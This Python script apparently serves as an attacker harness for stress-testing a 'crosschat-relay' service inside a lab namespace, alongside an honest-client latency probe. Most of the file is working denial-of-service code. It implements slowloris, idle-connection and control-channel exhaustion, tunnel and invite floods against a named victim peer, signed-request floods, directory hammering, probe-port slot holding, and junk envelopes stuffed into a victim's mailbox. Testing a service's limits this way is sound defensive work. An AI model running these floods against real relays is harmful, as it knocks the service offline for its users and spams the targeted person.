#!/usr/bin/env python3
"""relay_attacker.py — load a crosschat-relay the way an attacker from one address would, or
measure it the way an honest client would (run inside a lab namespace by relay_attack_lab.py).

Usage:
  relay_attacker.py attack --relay HOST:PORT --probe-port P --victim ID --duration S [--modes LIST]
  relay_attacker.py lookups --relay HOST:PORT --id ID --rate R --duration S

attack runs every mode in its own threads for S seconds (control and tunnels first, the others
5 s later), then prints one JSON line of counters:
  slowloris   60 connections, each sending a request head one header line every 5 s
  idle        300 connections that send nothing (reopened when the relay closes them)
  control     authenticated control channels with fresh keys, held open (pinging every 20 s)
  tunnels     tunnels between the attacker's own online peers, both ends joined and held idle
  invites     signed POST /api/v1/tunnels to the victim with fresh keys, as fast as answered
  replay      signed announces with fresh keys and nonces on keep-alive connections (replay cache,
              records)
  hammer      GET /api/v1/directory?q=<random> and GET / on keep-alive connections
  probes      connections to the NAT probe port that never read (slots held until the relay
              gives up on them)
  mailbox     anonymous deposits of well-formed junk envelopes (24 KiB, sealed to nothing) into
              the victim's mailbox, as fast as answered (not in the default list)
  handles     handle claims (random names) with fresh keys, as fast as answered (not in the
              default list)
lookups makes an honest lookup of ID R times per second on a new connection each, for S seconds,
and prints {"latencies_ms": [...], "statuses": {...}} (a failed lookup counts as 10,000 ms).

The protocol is spoken as docs/PROTOCOL.md specifies (request signing, control frames "CX",
version 1, type, 4-byte big-endian length, JSON body). Needs python3-cryptography (Ed25519).
Every loop is bounded by the duration; sockets have timeouts.
"""
import argparse
import base64
import hashlib
import json
import os
import random
import socket
import struct
import sys
import threading
import time

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

TYPES = {"hello": 1, "challenge": 2, "auth": 3, "welcome": 4, "invite": 5, "ping": 6, "pong": 7, "error": 8, "punch": 9}
NAMES = {v: k for k, v in TYPES.items()}


class Counters:
    def __init__(self):
        self.lock = threading.Lock()
        self.values = {}

    def add(self, key, amount=1):
        with self.lock:
            self.values[key] = self.values.get(key, 0) + amount


class Key:
    def __init__(self):
        self.private = Ed25519PrivateKey.generate()
        self.raw = self.private.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)

    def b64(self):
        return base64.b64encode(self.raw).decode()

    def sign(self, data):
        return base64.b64encode(self.private.sign(data)).decode()


def signed_headers(key, method, path, body):
    timestamp = str(int(time.time() * 1000))
    nonce = os.urandom(16).hex()
    text = "\n".join(["CXR1", method, path, hashlib.sha256(body).hexdigest(), timestamp, nonce]).encode()
    return {"X-CrossChat-Key": key.b64(), "X-CrossChat-Timestamp": timestamp, "X-CrossChat-Nonce": nonce,
            "X-CrossChat-Signature": key.sign(text)}


def request_bytes(method, path, host, body=b"", headers=None, keep_alive=True, content_type="application/json"):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    if body or method == "POST":
        lines += [f"Content-Type: {content_type}", f"Content-Length: {len(body)}"]
    for name, value in (headers or {}).items():
        lines.append(f"{name}: {value}")
    if not keep_alive:
        lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def read_response(sock):
    """Reads one response; returns (status, headers dict, body bytes, leftover bytes)."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    head, rest = data.split(b"\r\n\r\n", 1)
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ")[1])
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    length = int(headers.get("content-length", "0")) if status != 101 else 0
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed in body")
        rest += chunk
    return status, headers, rest[:length], rest[length:]


def peer_id_bytes(peer_id):
    """The 32 bytes of a peer ID in its text form (docs/PROTOCOL.md, Peer ID): base32 in 4 blocks
    of 13 characters, each followed by a check character; dashes only group for reading."""
    chars = peer_id.replace("-", "")
    data = "".join(c for i, c in enumerate(chars) if i % 14 != 13)
    return base64.b32decode(data + "=" * (-len(data) % 8))[:32]


def junk_envelope(recipient, size):
    """An envelope whose header the relay accepts (magic, version, suite, recipient) and whose
    rest is random: nobody can open it (docs/PROTOCOL.md, Envelope)."""
    header = b"CXM1" + bytes([1, 1]) + recipient + os.urandom(8) + os.urandom(32)
    return header + os.urandom(max(0, size - len(header)))


def frame(name, body):
    payload = json.dumps(body, separators=(",", ":")).encode()
    return b"CX" + bytes([1, TYPES[name]]) + struct.pack(">I", len(payload)) + payload


class FrameReader:
    def __init__(self, sock, leftover=b""):
        self.sock = sock
        self.buffer = leftover

    def next(self):
        while True:
            if len(self.buffer) >= 8:
                length = struct.unpack(">I", self.buffer[4:8])[0]
                if len(self.buffer) >= 8 + length:
                    kind = self.buffer[3]
                    body = json.loads(self.buffer[8:8 + length])
                    self.buffer = self.buffer[8 + length:]
                    return NAMES.get(kind, "?"), body
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed")
            self.buffer += chunk


class Attacker:
    def __init__(self, args):
        self.host, port = args.relay.rsplit(":", 1)
        self.port = int(port)
        self.probe_port = args.probe_port
        self.victim = args.victim
        self.deadline = time.monotonic() + args.duration
        self.counters = Counters()
        self.online = []          # (peer id, FrameReader) of this attacker's control channels
        self.online_lock = threading.Lock()

    def alive(self):
        return time.monotonic() < self.deadline

    def connect(self, port=None, timeout=5.0):
        sock = socket.create_connection((self.host, port or self.port), timeout=timeout)
        sock.settimeout(timeout)
        return sock

    def pause(self, seconds):
        time.sleep(min(seconds, max(0.0, self.deadline - time.monotonic())))

    # -- modes ---------------------------------------------------------------------------------

    def slowloris(self, count=60):
        socks = []
        while self.alive():
            while len(socks) < count and self.alive():
                try:
                    sock = self.connect()
                    sock.sendall(f"GET / HTTP/1.1\r\nHost: {self.host}\r\n".encode())
                    socks.append(sock)
                    self.counters.add("slowloris_opened")
                except OSError:
                    self.counters.add("slowloris_refused")
                    self.pause(0.2)
                    break
            self.pause(5.0)
            kept = []
            for sock in socks:
                try:
                    sock.sendall(b"X-Slow: 1\r\n")   # one header line every 5 s
                    kept.append(sock)
                except OSError:
                    self.counters.add("slowloris_cut")
                    sock.close()
            socks = kept
        for sock in socks:
            sock.close()

    def idle(self, count=300):
        socks = []
        while self.alive():
            while len(socks) < count and self.alive():
                try:
                    socks.append(self.connect())
                    self.counters.add("idle_opened")
                except OSError:
                    self.counters.add("idle_refused")
                    break
            self.pause(1.0)
            kept = []
            for sock in socks:
                sock.setblocking(False)
                try:
                    if sock.recv(1, socket.MSG_PEEK) == b"":
                        self.counters.add("idle_closed_by_relay")
                        sock.close()
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    self.counters.add("idle_closed_by_relay")
                    sock.close()
                    continue
                kept.append(sock)
            socks = kept
        for sock in socks:
            sock.close()

    def open_control(self, key):
        sock = self.connect()
        sock.sendall(request_bytes("GET", "/api/v1/control", self.host,
                                   headers={"Connection": "Upgrade", "Upgrade": "crosschat-control/1"}))
        status, _headers, _body, leftover = read_response(sock)
        if status != 101:
            sock.close()
            raise ConnectionRefusedError(f"control upgrade: {status}")
        reader = FrameReader(sock, leftover)
        sock.sendall(frame("hello", {"key": key.b64(), "version": 1}))
        name, body = reader.next()
        if name != "challenge":
            raise ConnectionRefusedError(f"expected challenge, got {name} {body}")
        sock.sendall(frame("auth", {"signature": key.sign(("CXR1-control\n" + body["nonce"]).encode())}))
        name, body = reader.next()
        if name != "welcome":
            raise ConnectionRefusedError(f"expected welcome, got {name} {body}")
        return body["id"], reader

    def control(self, count=400):
        held = []
        while self.alive() and len(held) < count:
            try:
                peer, reader = self.open_control(Key())
                held.append(reader)
                with self.online_lock:
                    self.online.append((peer, reader))
                self.counters.add("control_online")
            except (OSError, ConnectionError, ValueError):
                self.counters.add("control_refused")
                self.pause(0.5)
        last_ping = time.monotonic()
        while self.alive():
            self.pause(1.0)
            if time.monotonic() - last_ping >= 20:
                last_ping = time.monotonic()
                for reader in held:
                    try:
                        reader.sock.sendall(frame("ping", {"n": 1}))
                    except OSError:
                        pass
        for reader in held:
            reader.sock.close()

    def signed_post(self, sock, key, path, body):
        sock.sendall(request_bytes("POST", path, self.host, body, signed_headers(key, "POST", path, body)))
        return read_response(sock)

    def join(self, token):
        sock = self.connect()
        sock.sendall(request_bytes("GET", f"/api/v1/tunnels/{token}", self.host,
                                   headers={"Connection": "Upgrade", "Upgrade": "crosschat-tunnel/1"}))
        status, _h, _b, _left = read_response(sock)
        if status != 101:
            sock.close()
            return None
        return sock

    def tunnels(self):
        held = []
        self.pause(3.0)   # let some control channels come up
        while self.alive():
            with self.online_lock:
                peers = list(self.online)
            if len(peers) < 2:
                self.pause(0.5)
                continue
            (callee, reader) = random.choice(peers)
            try:
                sock = self.connect()
                status, _h, body, _l = self.signed_post(sock, Key(), "/api/v1/tunnels", json.dumps({"to": callee}).encode())
                sock.close()
                if status != 201:
                    self.counters.add(f"tunnels_refused_{status}")
                    self.pause(0.2)
                    continue
                caller_end = self.join(json.loads(body)["token"])
                reader.sock.settimeout(5.0)
                name, invite = reader.next()
                while name != "invite":
                    name, invite = reader.next()
                callee_end = self.join(invite["token"])
                held += [s for s in (caller_end, callee_end) if s]
                self.counters.add("tunnels_held")
            except (OSError, ConnectionError, ValueError, KeyError):
                self.counters.add("tunnels_failed")
                self.pause(0.2)
        for sock in held:
            sock.close()

    def request_loop(self, name, request, backs_off=lambda status: False):
        """Sends request(sock) -> (status, headers) over one keep-alive connection (a new one
        whenever the relay closes it) until the attack ends; counts name_<status>, waits
        50 ms after a status backs_off(status) names and 100 ms after a failure."""
        sock = None
        while self.alive():
            try:
                sock = sock or self.connect()
                status, headers = request(sock)
                self.counters.add(f"{name}_{status}")
                if headers.get("connection", "").lower() == "close":
                    sock.close()
                    sock = None
                if backs_off(status):
                    self.pause(0.05)
            except (OSError, ConnectionError, ValueError):
                self.counters.add(f"{name}_failed")
                if sock:
                    sock.close()
                sock = None
                self.pause(0.1)

    def post(self, sock, path, body, content_type="application/octet-stream"):
        sock.sendall(request_bytes("POST", path, self.host, body, content_type=content_type))
        return read_response(sock)[:2]

    def invites(self):
        body = json.dumps({"to": self.victim}).encode()
        self.request_loop("invites", lambda sock: self.signed_post(sock, Key(), "/api/v1/tunnels", body)[:2],
                          lambda status: status == 429)

    def replay(self):
        body = json.dumps({"name": "x" * 8, "addresses": ["0.0.0.0:4000"]}).encode()
        self.request_loop("announce", lambda sock: self.signed_post(sock, Key(), "/api/v1/announce", body)[:2])

    def hammer(self):
        def request(sock):
            if random.random() < 0.5:
                query = f"q={random.choice('abcdefghijklmnopqrstuvwxyz')}{random.randint(0, 99)}&offset={random.randint(0, 50)}"
                path = "/api/v1/directory?" + query
            else:
                path = "/"
            sock.sendall(request_bytes("GET", path, self.host))
            return read_response(sock)[:2]
        self.request_loop("hammer", request)

    def probes(self, count=50):
        socks = []
        while self.alive():
            while len(socks) < count and self.alive():
                try:
                    sock = self.connect(self.probe_port)
                    socks.append(sock)   # never read: the relay's answer and FIN wait for us
                    self.counters.add("probes_opened")
                except OSError:
                    self.counters.add("probes_refused")
                    break
            self.pause(2.0)
            for sock in socks:
                sock.close()
            socks = []

    def mailbox(self):
        path = f"/api/v1/mailbox/{self.victim}"
        recipient = peer_id_bytes(self.victim)
        self.request_loop("mailbox", lambda sock: self.post(sock, path, junk_envelope(recipient, 24 * 1024 - 64)),
                          lambda status: status != 201)

    def handles(self):
        letters = "abcdefghijklmnopqrstuvwxyz"

        def request(sock):
            handle = "".join(random.choice(letters) for _ in range(12))
            key = Key()
            ts = int(time.time() * 1000)
            claim = {"handle": handle, "ts": ts, "signature": key.sign(f"CXR1-handle\n{handle}\n{ts}".encode())}
            return self.signed_post(sock, key, "/api/v1/handles", json.dumps(claim).encode())[:2]
        self.request_loop("handles", request, lambda status: status == 429)

    def delayed(self, mode):
        """The connection-hungry modes start a few seconds late, so that the control-channel and
        tunnel floods first get as far as the relay lets one address go."""
        if mode not in ("control", "tunnels"):
            self.pause(5.0)
        getattr(self, mode)()

    def run(self, modes):
        threads = []
        for mode in modes:
            thread = threading.Thread(target=self.delayed, args=(mode,), name=mode, daemon=True)
            thread.start()
            threads.append(thread)
        for thread in threads:
            thread.join(max(0.0, self.deadline - time.monotonic()) + 15)
        print(json.dumps({"event": "done", "counters": self.counters.values}), flush=True)


def lookups(args):
    host, port = args.relay.rsplit(":", 1)
    latencies, statuses = [], {}
    deadline = time.monotonic() + args.duration
    next_at = time.monotonic()
    while time.monotonic() < deadline:
        start = time.monotonic()
        try:
            sock = socket.create_connection((host, int(port)), timeout=10)
            sock.settimeout(10)
            sock.sendall(request_bytes("GET", f"/api/v1/peers/{args.id}", host, keep_alive=False))
            status, _h, _b, _l = read_response(sock)
            sock.close()
            latencies.append((time.monotonic() - start) * 1000)
        except (OSError, ConnectionError, ValueError):
            status = "failed"
            latencies.append(10000.0)
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        next_at += 1.0 / args.rate
        time.sleep(max(0.0, next_at - time.monotonic()))
    print(json.dumps({"event": "lookups", "latencies_ms": [round(x, 2) for x in latencies], "statuses": statuses}), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("mode", choices=["attack", "lookups"])
    parser.add_argument("--relay", required=True)
    parser.add_argument("--probe-port", type=int, default=0)
    parser.add_argument("--victim", default="")
    parser.add_argument("--id", default="")
    parser.add_argument("--rate", type=float, default=10)
    parser.add_argument("--duration", type=float, default=30)
    parser.add_argument("--modes", default="slowloris,idle,control,tunnels,invites,replay,hammer,probes")
    args = parser.parse_args()
    print(json.dumps({"event": "ready"}), flush=True)
    if args.mode == "lookups":
        lookups(args)
    else:
        Attacker(args).run([m for m in args.modes.split(",") if m])
    return 0


if __name__ == "__main__":
    sys.exit(main())
